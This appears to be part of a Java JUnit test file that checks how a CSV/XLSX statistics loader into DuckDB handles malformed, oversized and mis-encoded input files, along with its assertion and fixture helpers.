        Path file = HostileFiles.textFile(in("快递_少列.csv"), POSTAL_HEADER + "\n三明市,2024年,28530\n永安市,2024年\n", StandardCharsets.UTF_8);

        LoadOutcome outcome = load(file, POSTAL);

        assertLoaded(outcome, 1, 0);
        assertThat(outcome.skippedByKind()).containsEntry("no_values", 1L);
        assertThat(store.rows("SELECT region_code, value_kind FROM fact.metric_value")).singleElement()
                .satisfies(r -> assertThat(r).containsEntry("region_code", "350400").containsEntry("value_kind", "level"));
    }

    @Test
    void aRowWithMoreCellsThanTheHeaderIsRejectedAsShifted() throws Exception {
        // an unquoted thousands separator: 28,530 becomes two cells and pushes the growth rate right
        Path file = HostileFiles.textFile(in("快递_多列.csv"), POSTAL_HEADER + "\n三明市,2024年,28,530,16\n永安市,2024年,1234.5,9.1\n",
                StandardCharsets.UTF_8);

        LoadOutcome outcome = load(file, POSTAL);

        assertLoaded(outcome, 1, 1);
        assertThat(rejects()).singleElement().satisfies(r -> assertThat(r)
                .containsEntry("row_number", 2).containsEntry("column_name", "第5列").containsEntry("raw_value", "16")
                .containsEntry("reason", "该行在表头之外还有值（表头共 4 列）：可能有未加引号的逗号，数值已错位"));
        assertThat(store.count("SELECT count(*) FROM fact.metric_value WHERE region_code = '350400'")).isZero();
    }

    @Test
    void anUnterminatedQuoteFailsTheFileNamingTheLine() throws Exception {
        Path file = HostileFiles.textFile(in("快递_引号.csv"), POSTAL_HEADER + "\n三明市,2024年,28530,16\n永安市,2024年,\"1234.5,9.1\n东营区,2024年,100,5\n",
                StandardCharsets.UTF_8);

        LoadOutcome outcome = load(file, POSTAL);

        assertFailedLeavingNoRows(outcome, "CSV 第 3 行附近无法解析: (startline 3) EOF reached before encapsulated token finished");
    }

    @Test
    void aUtf16FileWithByteOrderMarkLoads() throws Exception {
        Path file = HostileFiles.bytes(in("快递_UTF16.csv"), new byte[] {(byte) 0xFF, (byte) 0xFE},
                (POSTAL_HEADER + "\r\n三明市,2024年,28530,16\r\n永安市,2024年,1234.5,9.1\r\n").getBytes(StandardCharsets.UTF_16LE));

        LoadOutcome outcome = load(file, POSTAL);

        assertLoaded(outcome, 2, 0);
        assertThat(store.count("SELECT count(*) FROM fact.metric_value WHERE region_code IN ('350400', '350481')")).isEqualTo(4);
    }

    @Test
    void gbkBytesDeepInsideAUtf8FileFailTheWholeFileNamingTheLine() throws Exception {
        StringBuilder utf8 = new StringBuilder(POSTAL_HEADER).append('\n');
        for (int year = 1; year <= 3000; year++) {
            utf8.append("三明市,").append(1990 + year % 100).append("年,").append(year).append(",1\n");
        }
        Path file = HostileFiles.bytes(in("快递_混合编码.csv"), utf8.toString().getBytes(StandardCharsets.UTF_8),
                "永安市,2024年,1234.5,9.1\n".getBytes(Charset.forName("GBK")));
        assertThat(Files.size(file)).as("past the 64 KiB the encoding is guessed from").isGreaterThan(1 << 16);

        LoadOutcome outcome = load(file, POSTAL);

        assertFailedLeavingNoRows(outcome, "第 3002 行的字节不是 UTF-8 编码：文件混用了编码");
    }

    @Test
    void aUtf8ByteOrderMarkOnGbkTextFailsTheFile() throws Exception {
        Path file = HostileFiles.bytes(in("快递_BOM_GBK.csv"), new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF},
                (POSTAL_HEADER + "\n三明市,2024年,28530,16\n").getBytes(Charset.forName("GBK")));

        LoadOutcome outcome = load(file, POSTAL);

        assertFailedLeavingNoRows(outcome, "第 1 行的字节不是 UTF-8 编码");
    }

    @Test
    void aFiftyMegabyteLineWithoutNewlineFailsWithinBoundedMemory() throws Exception {
        Path file = HostileFiles.singleLine(in("快递_单行.csv"), 50L << 20, (byte) 'A');

        LoadOutcome outcome = load(file, POSTAL);

        assertFailedLeavingNoRows(outcome, "CSV 第 1 行附近无法解析: 一行超过 4194304 个字符（缺少换行或引号未闭合），文件损坏或不是 CSV");
    }

    @Test
    void aFiftyMegabyteLineOfEmptyCellsFailsWithinBoundedMemory() throws Exception {
        Path file = HostileFiles.singleLine(in("快递_逗号.csv"), 50L << 20, (byte) ',');

        LoadOutcome outcome = load(file, POSTAL);

        assertFailedLeavingNoRows(outcome, "CSV 第 1 行附近无法解析: 一行超过 4194304 个字符");
    }

    @Test
    void fiftyLongLinesAboveWhereAHeaderShouldBeFailWithinBoundedMemory() throws Exception {
        // 50 lines of 3 million 'Ж' (2 bytes each in memory): kept, they would need 300 MB
        Path file = HostileFiles.longLines(in("快递_长标题.csv"), 50, 3_000_000, 'Ж');

        LoadOutcome outcome = load(file, POSTAL);

        assertFailedLeavingNoRows(outcome, "快递_长标题.csv 前 50 行内找不到表头（含“[地区]”的行）");
    }

    @Test
    void aHugeTitleAboveTheHeaderIsClippedForTheSearchAndTheDataRowsAreReadWhole() throws Exception {
        // a 3-million-character title, then a header and data rows of which one holds a long note: the title is
        // kept clipped while the header is searched, so the sheet is read again from the top for its data
        String title = "快递业务量统计" + "说明".repeat(1_500_000);
        Path file = HostileFiles.textFile(in("快递_长标题行.csv"), title + "\n" + POSTAL_HEADER + "\n三明市,2024年,28530,16\n永安市,2024年,1234.5,9.1\n",
                StandardCharsets.UTF_8);

        LoadOutcome outcome = load(file, POSTAL);

        assertLoaded(outcome, 2, 0);
        assertThat(store.rows("SELECT row_number, source_value FROM fact.metric_value WHERE value_kind = 'level' ORDER BY 1"))
                .extracting(r -> r.get("row_number") + " " + r.get("source_value")).containsExactly("3 28530", "4 1234.5");
    }

    @Test
    void aCsvWithAThousandColumnsLoads() throws Exception {
        String extraHeader = IntStream.rangeClosed(5, 1000).mapToObj(i -> "附加" + i).collect(Collectors.joining(","));
        String extraCells = IntStream.rangeClosed(5, 1000).mapToObj(i -> String.valueOf(i)).collect(Collectors.joining(","));
        Path file = HostileFiles.textFile(in("快递_千列.csv"), POSTAL_HEADER + "," + extraHeader + "\n三明市,2024年,28530,16," + extraCells
                + "\n永安市,2024年,1234.5,9.1," + extraCells + "\n", StandardCharsets.UTF_8);

        LoadOutcome outcome = load(file, POSTAL);

        assertLoaded(outcome, 2, 0);
        assertThat(store.count("SELECT count(*) FROM fact.metric_value")).isEqualTo(4);
    }

    @Test
    void mixedLineEndingsEachEndARow() throws Exception {
        Path file = HostileFiles.textFile(in("快递_换行.csv"),
                POSTAL_HEADER + "\r\n三明市,2024年,28530,16\n永安市,2024年,1234.5,9.1\r三明市,2023年,24600,16.5\r\n", StandardCharsets.UTF_8);

        LoadOutcome outcome = load(file, POSTAL);

        assertLoaded(outcome, 3, 0);
        assertThat(store.rows("SELECT DISTINCT row_number FROM fact.metric_value ORDER BY 1")).extracting(r -> r.get("row_number"))
                .containsExactly(2, 3, 4);
    }

    // ================================================================ helpers

    private Path in(String name) {
        return dir.resolve("in").resolve(name);
    }

    private LoadOutcome load(Path file, String definitionId) throws SQLException {
        return store.load(file, file.getFileName().toString(), store.definition(definitionId));
    }

    /**
     * A failed file: its message names the problem, and the store gained only the file's meta.load
     * row and its file-level meta.reject row (no fact row, no row-level reject, no skip counts).
     */
    private void assertFailedLeavingNoRows(LoadOutcome outcome, String... messageParts) throws SQLException {
        assertThat(outcome.status()).as(outcome.message()).isEqualTo("failed");
        assertThat(outcome.message()).contains(messageParts);
        Map<String, Long> expected = new LinkedHashMap<>(before);
        expected.merge("meta.load", 1L, Long::sum);
        expected.merge("meta.reject", 1L, Long::sum);
        assertThat(store.tableCounts()).isEqualTo(expected);
        assertThat(store.rows("SELECT row_number, reason FROM meta.reject")).singleElement()
                .satisfies(r -> assertThat(r).containsEntry("row_number", null).containsEntry("reason", outcome.message()));
        assertReconciles();
    }

    private void assertLoaded(LoadOutcome outcome, long rowsLoaded, long rowsRejected) throws SQLException {
        assertThat(outcome.status()).as(outcome.message()).isEqualTo("loaded");
        assertThat(outcome.rowsLoaded()).as("rows loaded").isEqualTo(rowsLoaded);
        assertThat(outcome.rowsRejected()).as("rows rejected").isEqualTo(rowsRejected);
        assertThat(outcome.reconciles()).isTrue();
        assertReconciles();
    }

    private void assertReconciles() throws SQLException {
        assertThat(store.count("SELECT count(*) FROM meta.load_reconciliation WHERE NOT reconciles")).isZero();
    }

    private List<Map<String, Object>> rejects() throws SQLException {
        return store.rows("SELECT sheet_name, row_number, column_name, raw_value, reason FROM meta.reject ORDER BY row_number, column_name");
    }

    /** Every text column of the meta and fact tables ("meta.reject.raw_value") holding the text anywhere. */
    private List<String> columnsContaining(String text) throws SQLException {
        List<String> columns = store.rows("SELECT c.table_schema || '.' || c.table_name || '.' || c.column_name AS col "
                + "FROM information_schema.columns c JOIN information_schema.tables t USING (table_schema, table_name) "
                + "WHERE c.table_schema IN ('meta', 'fact') AND t.table_type = 'BASE TABLE' AND c.data_type = 'VARCHAR' ORDER BY 1")
                .stream().map(r -> (String) r.get("col")).toList();
        List<String> hits = new ArrayList<>();
        for (String col : columns) {
            int dot = col.lastIndexOf('.');
            try (PreparedStatement ps = store.conn.prepareStatement(
                    "SELECT count(*) FROM " + col.substring(0, dot) + " WHERE strpos(" + col.substring(dot + 1) + ", ?) > 0")) {
                ps.setString(1, text);
                try (ResultSet rs = ps.executeQuery()) {
                    rs.next();
                    if (rs.getLong(1) > 0) {
                        hits.add(col);
                    }
                }
            }
        }
        return hits;
    }

    private Workbooks register(Object[]... rows) {
        Workbooks wb = Workbooks.xlsx("名录");
        wb.row("网络交易经营者名录（导出日期：2025-06-30）");
        wb.row((Object[]) REGISTER_COLUMNS);
        for (Object[] r : rows) {
            wb.row(r);
        }
        return wb;
    }

    private Path expertSheet(Object[]... rows) throws IOException {
        Workbooks wb = Workbooks.xlsx("评估");
        wb.row("三明市网络市场监管与服务示范区创建专家评估表（2025年）");
        wb.row("指标体系", "指标编号", "子项", "得分", "评分类型");
        for (Object[] r : rows) {
            wb.row(r);
        }
        return wb.write(in("专家评估表_三明市_2025年.xlsx"));
    }

    /** The postal definition, selecting sheets by the given YAML list, parsed from a folder of its own. */
    private SourceDefinition definitionWithSheet(String sheetYaml) throws IOException {
        Path jobs = Files.createDirectories(dir.resolve("jobs"));
        String yaml = Files.readString(Path.of("jobs/postal_express.yml"), StandardCharsets.UTF_8)
                .replace("header:\n", "sheet: " + sheetYaml + "\nheader:\n");
        Files.writeString(jobs.resolve("postal_by_sheet.yml"), yaml, StandardCharsets.UTF_8);
        SourceDefinition def = SourceDefinitions.load(jobs, Path.of("jobs/reference")).byId(POSTAL).orElseThrow();
        assertThat(def.sheets()).hasSize(1);
        return def;
    }

    private static String creditCode(String first17) {
        return first17 + CreditCode.checkCharacter(first17);
    }

    private static String personalIdWithWrongCheck(String first17) {
        char right = PersonalId.checkCharacter(first17);
        return first17 + (right == '0' ? '1' : '0');
    }

    private static String column(int index) {
        return String.valueOf((char) ('A' + index));
    }

    private static List<Path> listing(Path root) throws IOException {
        try (Stream<Path> files = Files.walk(root)) {
            return files.filter(p -> !p.getFileName().toString().startsWith("store.duckdb")).sorted().toList();
        }
    }

    /** Counts connections to the server until it is closed. */
    private static AtomicInteger acceptInBackground(ServerSocket server) {
        AtomicInteger connections = new AtomicInteger();
        Thread t = new Thread(() -> {
            while (!server.isClosed()) {
                try (Socket s = server.accept()) {
                    connections.incrementAndGet();
                } catch (IOException closed) {
                    return;
                }
            }
        }, "dtd-server");
        t.setDaemon(true);
        t.start();
        return connections;
    }
}
